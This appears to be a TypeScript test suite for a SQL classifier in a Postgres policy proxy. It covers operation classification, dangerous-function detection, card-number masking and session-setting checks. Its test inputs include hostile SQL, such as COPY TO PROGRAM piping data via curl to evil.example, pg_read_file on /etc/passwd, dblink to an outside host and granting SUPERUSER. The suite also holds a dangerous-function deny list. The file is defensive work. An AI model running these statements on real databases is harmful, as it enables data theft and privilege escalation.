// The SQL classifier: real SQL in, the exact operations the policy engine decides out.

import { expect } from 'chai';
import { classifySql, isDangerousFunction, loadSqlParser, maskSqlText, sessionParameterProblem, SqlClassifier, type SqlClassification } from '../../../core/sql/index.js';

interface Op {
  statement: string;
  tables?: string[];
  qualifiers?: string[];
  functions?: string[];
}

/** The operations of `sql`, each with its empty fields left out so the tables read well. */
function ops(sql: string): Op[] {
  const c = new SqlClassifier().classify(sql, 'payments');
  if (!c.ok) throw new Error(`did not parse: ${c.message}`);
  return c.operations.map((o) => {
    expect(o.protocol).to.equal('postgres');
    expect(o.connection).to.equal('payments');
    const out: Op = { statement: o.statement };
    if (o.tables.length) out.tables = [...o.tables];
    if (o.qualifiers.length) out.qualifiers = [...o.qualifiers];
    if (o.functions.length) out.functions = [...o.functions];
    return out;
  });
}

const CASES: Array<[string, Op[]]> = [
  // Reads
  ['SELECT 1', [{ statement: 'select' }]],
  ['SELECT * FROM cards', [{ statement: 'select', tables: ['public.cards'] }]],
  ['select c.pan from payments.cards c join public.customers u on u.id = c.customer_id', [{ statement: 'select', tables: ['payments.cards', 'public.customers'] }]],
  ['SELECT * FROM "Payments"."Cards"', [{ statement: 'select', tables: ['Payments.Cards'] }]],
  ['SELECT * FROM "odd.name"', [{ statement: 'select', tables: ['public."odd.name"'] }]],
  ['SELECT * FROM mydb.s.t', [{ statement: 'select', tables: ['s.t'] }]],
  ['SELECT * FROM pg_authid', [{ statement: 'select', tables: ['pg_catalog.pg_authid'] }]],
  ['SELECT * FROM a WHERE id IN (SELECT a_id FROM b WHERE EXISTS (SELECT 1 FROM c))', [{ statement: 'select', tables: ['public.a', 'public.b', 'public.c'] }]],
  ['SELECT * FROM a UNION SELECT * FROM b', [{ statement: 'select', tables: ['public.a', 'public.b'] }]],
  ['TABLE cards', [{ statement: 'select', tables: ['public.cards'] }]],
  ['VALUES (1), (2)', [{ statement: 'select' }]],
  ['SELECT * FROM cards FOR UPDATE', [{ statement: 'select', tables: ['public.cards'] }, { statement: 'lock', tables: ['public.cards'] }]],
  // CTE names are not tables; a non-recursive CTE's body sees the real table of the same name.
  ['WITH x AS (SELECT * FROM cards) SELECT * FROM x', [{ statement: 'select', tables: ['public.cards'] }]],
  ['WITH cards AS (SELECT * FROM cards) SELECT * FROM cards', [{ statement: 'select', tables: ['public.cards'] }]],
  ['WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT * FROM r', [{ statement: 'select' }]],
  ['WITH x AS (SELECT 1) SELECT * FROM public.x', [{ statement: 'select', tables: ['public.x'] }]],
  ['SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x', [{ statement: 'select', tables: ['public.x'] }]],
  // Writes: the written table in the statement's own operation, what it reads in a select.
  ['INSERT INTO cards (pan) VALUES ($1)', [{ statement: 'insert', tables: ['public.cards'] }]],
  ['INSERT INTO archive SELECT * FROM cards', [{ statement: 'insert', tables: ['public.archive'] }, { statement: 'select', tables: ['public.cards'] }]],
  [
    'INSERT INTO t (id, v) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET v = excluded.v',
    [{ statement: 'insert', tables: ['public.t'] }, { statement: 'update', tables: ['public.t'] }],
  ],
  ['INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING', [{ statement: 'insert', tables: ['public.t'] }]],
  ['DELETE FROM t', [{ statement: 'delete', tables: ['public.t'], qualifiers: ['delete-without-where'] }]],
  ['DELETE FROM t WHERE id = 1', [{ statement: 'delete', tables: ['public.t'] }]],
  ['DELETE FROM t WHERE true', [{ statement: 'delete', tables: ['public.t'] }]],
  ['DELETE FROM t USING u WHERE t.id = u.id', [{ statement: 'delete', tables: ['public.t'] }, { statement: 'select', tables: ['public.u'] }]],
  ['DELETE FROM t RETURNING *', [{ statement: 'delete', tables: ['public.t'], qualifiers: ['delete-without-where'] }, { statement: 'select', tables: ['public.t'] }]],
  ['UPDATE s.t SET a = 1', [{ statement: 'update', tables: ['s.t'], qualifiers: ['update-without-where'] }]],
  ['UPDATE t SET a = 1 WHERE id = 2', [{ statement: 'update', tables: ['public.t'] }]],
  ['UPDATE t SET a = u.a FROM u WHERE t.id = u.id', [{ statement: 'update', tables: ['public.t'] }, { statement: 'select', tables: ['public.u'] }]],
  [
    'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)',
    [{ statement: 'merge', tables: ['public.t'] }, { statement: 'select', tables: ['public.s'] }],
  ],
  // Data-modifying CTEs are seen, whatever statement carries them.
  [
    'WITH d AS (DELETE FROM cards RETURNING *) SELECT * FROM d',
    [
      { statement: 'select' },
      { statement: 'delete', tables: ['public.cards'], qualifiers: ['delete-without-where'] },
      { statement: 'select', tables: ['public.cards'] },
    ],
  ],
  [
    'WITH u AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING id) INSERT INTO log SELECT id FROM u',
    [{ statement: 'insert', tables: ['public.log'] }, { statement: 'update', tables: ['public.t'] }, { statement: 'select', tables: ['public.t'] }],
  ],
  // Several statements in one string: each is classified.
  ['SELECT 1; DROP TABLE cards', [{ statement: 'select' }, { statement: 'drop', tables: ['public.cards'] }]],
  ['BEGIN; UPDATE t SET a = 1; COMMIT', [{ statement: 'transaction' }, { statement: 'update', tables: ['public.t'], qualifiers: ['update-without-where'] }, { statement: 'transaction' }]],
  // Dangerous functions anywhere in the tree.
  ["SELECT pg_read_file('/etc/passwd')", [{ statement: 'select', functions: ['pg_read_file'] }]],
  ["SELECT * FROM pg_catalog.pg_read_binary_file('/etc/passwd')", [{ statement: 'select', functions: ['pg_catalog.pg_read_binary_file'] }]],
  ["SELECT 1 FROM t WHERE EXISTS (SELECT pg_ls_dir('.'))", [{ statement: 'select', tables: ['public.t'], functions: ['pg_ls_dir'] }]],
  ["SELECT lo_export(1234, '/tmp/x')", [{ statement: 'select', functions: ['lo_export'] }]],
  ["SELECT * FROM dblink('host=evil', 'select 1') AS r(x int)", [{ statement: 'select', functions: ['dblink'] }]],
  ["UPDATE t SET v = pg_read_file('/etc/passwd') WHERE id = 1", [{ statement: 'update', tables: ['public.t'], functions: ['pg_read_file'] }]],
  // COPY
  ['COPY cards TO STDOUT', [{ statement: 'copy-to', tables: ['public.cards'] }]],
  ['COPY cards (pan) FROM STDIN WITH (FORMAT csv)', [{ statement: 'copy-from', tables: ['public.cards'] }]],
  ['COPY (SELECT pan FROM cards WHERE id > 1) TO STDOUT', [{ statement: 'copy-to', tables: ['public.cards'] }]],
  ["COPY t TO PROGRAM 'curl -d @- evil.example'", [{ statement: 'copy-to', tables: ['public.t'], functions: ['copy-program'] }]],
  ["COPY t FROM PROGRAM 'id'", [{ statement: 'copy-from', tables: ['public.t'], functions: ['copy-program'] }]],
  ["COPY t TO '/tmp/t.csv'", [{ statement: 'copy-to', tables: ['public.t'], functions: ['copy-file'] }]],
  [
    'COPY (DELETE FROM t WHERE id = 1 RETURNING *) TO STDOUT',
    [{ statement: 'copy-to' }, { statement: 'delete', tables: ['public.t'] }, { statement: 'select', tables: ['public.t'] }],
  ],
  // DDL, privileges, session
  ['TRUNCATE a, s.b', [{ statement: 'truncate', tables: ['public.a', 's.b'] }]],
  ['DROP TABLE IF EXISTS a, s.b CASCADE', [{ statement: 'drop', tables: ['public.a', 's.b'] }]],
  ['DROP SCHEMA payments CASCADE', [{ statement: 'drop', tables: ['payments.*'] }]],
  ['DROP FUNCTION f(int)', [{ statement: 'drop' }]],
  ['DROP ROLE agent', [{ statement: 'drop' }]],
  ['CREATE TABLE t (id int REFERENCES u (id))', [{ statement: 'create', tables: ['public.t', 'public.u'] }]],
  ['CREATE TEMP TABLE scratch (id int)', [{ statement: 'create', tables: ['pg_temp.scratch'] }]],
  ['CREATE TABLE copy AS SELECT * FROM cards', [{ statement: 'create', tables: ['public.copy'] }, { statement: 'select', tables: ['public.cards'] }]],
  ['SELECT * INTO copy FROM cards', [{ statement: 'create', tables: ['public.copy'] }, { statement: 'select', tables: ['public.cards'] }]],
  ['CREATE VIEW v AS SELECT pan FROM cards', [{ statement: 'create', tables: ['public.v'] }, { statement: 'select', tables: ['public.cards'] }]],
  ['CREATE INDEX ON cards (pan)', [{ statement: 'create', tables: ['public.cards'] }]],
  ['CREATE EXTENSION dblink', [{ statement: 'create' }]],
  ['ALTER TABLE cards ADD COLUMN note text', [{ statement: 'alter', tables: ['public.cards'] }]],
  ['ALTER TABLE cards RENAME TO old_cards', [{ statement: 'alter', tables: ['public.cards'] }]],
  ['ALTER ROLE agent SUPERUSER', [{ statement: 'alter' }]],
  ['ALTER SYSTEM SET log_statement = none', [{ statement: 'alter' }]],
  ['GRANT SELECT ON cards TO agent', [{ statement: 'grant', tables: ['public.cards'] }]],
  ['GRANT SELECT ON ALL TABLES IN SCHEMA payments TO agent', [{ statement: 'grant', tables: ['payments.*'] }]],
  ['REVOKE ALL ON cards FROM agent', [{ statement: 'revoke', tables: ['public.cards'] }]],
  ['GRANT admin TO agent', [{ statement: 'grant' }]],
  ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO agent', [{ statement: 'grant' }]],
  ['SET search_path = evil, public', [{ statement: 'set', functions: ['set_config'] }]],
  ['SET search_path TO "$user", public', [{ statement: 'set' }]],
  ["SET SCHEMA 'secret'", [{ statement: 'set', functions: ['set_config'] }]],
  ['SET standard_conforming_strings = off', [{ statement: 'set', functions: ['set_config'] }]],
  ['SET standard_conforming_strings = on', [{ statement: 'set' }]],
  ["SET NAMES 'SJIS'", [{ statement: 'set', functions: ['set_config'] }]],
  ["SET client_encoding = 'UTF8'", [{ statement: 'set' }]],
  ['SET statement_timeout = 5000', [{ statement: 'set' }]],
  ['SET ROLE admin', [{ statement: 'set' }]],
  ['RESET ALL', [{ statement: 'set' }]],
  ['DISCARD ALL', [{ statement: 'set' }]],
  ['SHOW server_version', [{ statement: 'show' }]],
  ['START TRANSACTION ISOLATION LEVEL SERIALIZABLE', [{ statement: 'transaction' }]],
  ['SAVEPOINT s1', [{ statement: 'transaction' }]],
  ['ROLLBACK TO SAVEPOINT s1', [{ statement: 'transaction' }]],
  ['COMMIT', [{ statement: 'transaction' }]],
  // Code the proxy cannot see into
  ["DO $$ BEGIN PERFORM pg_sleep(1); END $$", [{ statement: 'do' }]],
  ['CALL payments.refund(42)', [{ statement: 'call', functions: ['payments.refund'] }]],
  ['EXECUTE fetch_card(1)', [{ statement: 'other' }]],
  ['PREPARE wipe AS DELETE FROM cards', [{ statement: 'delete', tables: ['public.cards'], qualifiers: ['delete-without-where'] }]],
  ['PREPARE q (int) AS SELECT * FROM cards WHERE id = $1', [{ statement: 'select', tables: ['public.cards'] }]],
  ['DECLARE c CURSOR FOR SELECT * FROM cards', [{ statement: 'select', tables: ['public.cards'] }]],
  ['FETCH FORWARD 100 FROM c', [{ statement: 'select' }]],
  // EXPLAIN ANALYZE runs the statement; EXPLAIN alone only plans it.
  ['EXPLAIN ANALYZE DELETE FROM cards', [{ statement: 'delete', tables: ['public.cards'], qualifiers: ['delete-without-where'] }]],
  ['EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 1', [{ statement: 'update', tables: ['public.t'] }]],
  ['EXPLAIN (ANALYZE false) DELETE FROM cards', [{ statement: 'select', tables: ['public.cards'] }]],
  ['EXPLAIN (ANALYZE 0) DELETE FROM cards', [{ statement: 'select', tables: ['public.cards'] }]],
  ['EXPLAIN DELETE FROM cards WHERE id IN (SELECT id FROM old)', [{ statement: 'select', tables: ['public.cards', 'public.old'] }]],
  // Everything else
  ['LISTEN payments', [{ statement: 'listen' }]],
  ["NOTIFY payments, 'x'", [{ statement: 'notify' }]],
  ['VACUUM cards', [{ statement: 'other', tables: ['public.cards'] }]],
  ['LOCK TABLE cards IN ACCESS EXCLUSIVE MODE', [{ statement: 'lock', tables: ['public.cards'] }]],
  ["LOAD 'plpgsql'", [{ statement: 'other' }]],
];

describe('SQL classifier', () => {
  before(async () => {
    await loadSqlParser();
  });

  describe('classifies each statement into policy operations', () => {
    for (const [sql, expected] of CASES) {
      it(sql, () => {
        expect(ops(sql)).to.deep.equal(expected);
      });
    }
  });

  describe('multi-statement strings', () => {
    it('gives each statement its own text and operations', () => {
      const c = classifySql("SELECT 'é' FROM a;\n  -- then\n DELETE FROM b WHERE x = 1;", 'payments');
      expect(c.ok).to.equal(true);
      if (!c.ok) return;
      expect(c.statementCount).to.equal(2);
      expect(c.statements.map((s) => s.text)).to.deep.equal(["SELECT 'é' FROM a", 'DELETE FROM b WHERE x = 1']);
      expect(c.statements.map((s) => s.operations.map((o) => o.statement))).to.deep.equal([['select'], ['delete']]);
    });

    it('treats a string of only whitespace and comments as no statement at all', () => {
      const c = classifySql('  /* nothing */ -- here\n', 'payments');
      expect(c).to.deep.include({ ok: true, statementCount: 0 });
      expect(c.ok && c.operations).to.deep.equal([]);
    });

    it('treats the empty string as no statement at all', () => {
      expect(classifySql('', 'payments')).to.deep.include({ ok: true, statementCount: 0 });
    });
  });

  describe('SQL that does not parse', () => {
    const rejected = (sql: string): SqlClassification => new SqlClassifier().classify(sql, 'payments');

    it('answers 42601 with the parser message and the 1-based position', () => {
      expect(rejected('SELECT * FROM WHERE x')).to.deep.equal({ ok: false, sqlstate: '42601', message: 'syntax error at or near "WHERE"', position: 15 });
    });

    it('counts the position in characters, not bytes', () => {
      expect(rejected("SELECT 'é' FROM WHERE")).to.deep.include({ sqlstate: '42601', position: 17 });
    });

    it('rejects the whole string when one of its statements is malformed', () => {
      expect(rejected('SELECT 1; DROP TABLE')).to.deep.include({ ok: false, sqlstate: '42601', message: 'syntax error at end of input', position: 21 });
    });

    it('reports an unterminated literal', () => {
      expect(rejected("SELECT 'abc")).to.deep.equal({ ok: false, sqlstate: '42601', message: 'unterminated quoted string at or near "\'abc"', position: 8 });
    });

    it('refuses text with a NUL byte, which the parser could not see past', () => {
      expect(rejected('SELECT 1\0; DROP TABLE cards')).to.deep.include({ ok: false, sqlstate: '08P01' });
    });
  });

  describe('results', () => {
    it('are frozen, so a caller cannot poison the cache', () => {
      const c = classifySql('DELETE FROM frozen_t', 'payments');
      expect(c.ok).to.equal(true);
      if (!c.ok) return;
      expect(Object.isFrozen(c)).to.equal(true);
      expect(Object.isFrozen(c.operations[0])).to.equal(true);
      expect(Object.isFrozen(c.operations[0].tables)).to.equal(true);
      expect(Object.isFrozen(c.operations[0].qualifiers)).to.equal(true);
    });

    it('carry the connection they were classified for', () => {
      const a = classifySql('SELECT 1', 'payments');
      const b = classifySql('SELECT 1', 'ledger');
      expect(a.ok && a.operations[0].connection).to.equal('payments');
      expect(b.ok && b.operations[0].connection).to.equal('ledger');
    });

    it('report unqualified names in the configured default schema', () => {
      const c = new SqlClassifier({ defaultSchema: 'app' }).classify('SELECT * FROM cards, pg_class', 'payments');
      expect(c.ok && c.operations[0].tables).to.deep.equal(['app.cards', 'pg_catalog.pg_class']);
    });
  });

  describe('dangerous functions', () => {
    for (const f of ['pg_read_file', 'pg_catalog.pg_read_binary_file', 'pg_ls_dir', 'lo_import', 'lo_export', 'dblink', 'dblink_exec', 'public.dblink_connect', 'copy-program', 'copy-file', 'query_to_xml', 'set_config']) {
      it(`${f} is dangerous`, () => expect(isDangerousFunction(f)).to.equal(true));
    }
    for (const f of ['now', 'count', 'pg_catalog.extract', 'lower', 'pg_sleep']) {
      it(`${f} is not`, () => expect(isDangerousFunction(f)).to.equal(false));
    }
  });
});

describe('SQL text for the audit log', () => {
  before(async () => {
    await loadSqlParser();
  });

  it('masks a literal PAN, keeping the last four digits and the length', () => {
    const sql = "SELECT * FROM cards WHERE pan = '4111111111111111'";
    expect(maskSqlText(sql)).to.equal("SELECT * FROM cards WHERE pan = '************1111'");
  });

  it('masks PANs written with separators and as numbers', () => {
    expect(maskSqlText("INSERT INTO c VALUES ('5555-5555-5555-4444', 378282246310005)")).to.equal(
      "INSERT INTO c VALUES ('****-****-****-4444', ***********0005)",
    );
  });

  it('keeps the first six digits too with bin+last4', () => {
    expect(maskSqlText("SELECT '4111111111111111'", { keep: 'bin+last4' })).to.equal("SELECT '411111******1111'");
  });

  it('stars the values given to card-data columns in INSERT, UPDATE and conditions', () => {
    expect(maskSqlText("INSERT INTO p (pan, cvv, amount) VALUES ('4111111111111111', '123', 10), ('5555555555554444', 4567, 20)")).to.equal(
      "INSERT INTO p (pan, cvv, amount) VALUES ('************1111', '***', 10), ('************4444', ****, 20)",
    );
    expect(maskSqlText("UPDATE p SET CVV2 = E'98\\'7', note = 'ok' WHERE id = 1")).to.equal("UPDATE p SET CVV2 = E'*****', note = 'ok' WHERE id = 1");
    expect(maskSqlText("SELECT * FROM p WHERE security_code = '123' AND pin IN ('1234', $$5678$$::text) AND id = 7")).to.equal(
      "SELECT * FROM p WHERE security_code = '***' AND pin IN ('****', $$****$$::text) AND id = 7",
    );
    expect(maskSqlText("INSERT INTO p (id, cvc) VALUES (1, '1') ON CONFLICT (id) DO UPDATE SET cvc = 'é12'")).to.equal(
      "INSERT INTO p (id, cvc) VALUES (1, '*') ON CONFLICT (id) DO UPDATE SET cvc = '***'",
    );
  });

  it('stars the policy\'s extra card fields too', () => {
    expect(maskSqlText("UPDATE p SET magstripe = 'abc'", { cardFields: ['magStripe'] })).to.equal("UPDATE p SET magstripe = '***'");
  });

  it('leaves statements without PANs untouched', () => {
    const sql = 'UPDATE orders SET total = 123456789012 WHERE id = 42';
    expect(maskSqlText(sql)).to.equal(sql);
  });
});

describe('session settings the classifier depends on', () => {
  it('accepts standard_conforming_strings on and UTF8', () => {
    expect(sessionParameterProblem('standard_conforming_strings', 'on')).to.equal(undefined);
    expect(sessionParameterProblem('client_encoding', 'UTF8')).to.equal(undefined);
    expect(sessionParameterProblem('application_name', 'psql')).to.equal(undefined);
  });

  it('refuses standard_conforming_strings off, under which literals end elsewhere', () => {
    expect(sessionParameterProblem('standard_conforming_strings', 'off')).to.match(/standard_conforming_strings must stay on/);
  });

  it('refuses a search_path under which unqualified names resolve elsewhere', () => {
    expect(sessionParameterProblem('search_path', '"$user", public')).to.equal(undefined);
    expect(sessionParameterProblem('search_path', 'secret, public')).to.match(/search_path must stay the default/);
  });

  it('refuses a client encoding whose characters can hide a quote byte', () => {
    expect(sessionParameterProblem('client_encoding', 'SJIS')).to.match(/client_encoding must be UTF8 \(not SJIS\)/);
  });
});

describe('statements too deep to check', () => {
  before(async () => {
    await loadSqlParser();
  });

  it('refuses 54001 rather than deciding on part of the tree', () => {
    const nested = `SELECT * FROM ${'(SELECT * FROM '.repeat(1500)}cards${') s'.repeat(1500)}`;
    expect(new SqlClassifier().classify(nested, 'payments')).to.deep.include({ ok: false, sqlstate: '54001' });
  });

  it('refuses 54001 for an expression chain deeper than the JSON reader can go', () => {
    const chain = `SELECT 1${' + 1'.repeat(30000)}`;
    expect(new SqlClassifier().classify(chain, 'payments')).to.deep.include({ ok: false, sqlstate: '54001' });
  });
});

describe('SQL-level prepared statements', () => {
  before(async () => {
    await loadSqlParser();
  });

  it('names what PREPARE defines, classified as its inner statement', () => {
    const c = classifySql('PREPARE wipe (int) AS DELETE FROM cards WHERE id = $1', 'payments');
    expect(c.ok && c.statements[0].prepares).to.equal('wipe');
    expect(c.ok && c.statements[0].operations.map((o) => o.statement)).to.deep.equal(['delete']);
  });

  it('names what EXECUTE runs, classified other', () => {
    const c = classifySql('EXECUTE wipe(1)', 'payments');
    expect(c.ok && c.statements[0].executes).to.equal('wipe');
    expect(c.ok && c.statements[0].operations.map((o) => o.statement)).to.deep.equal(['other']);
  });
});
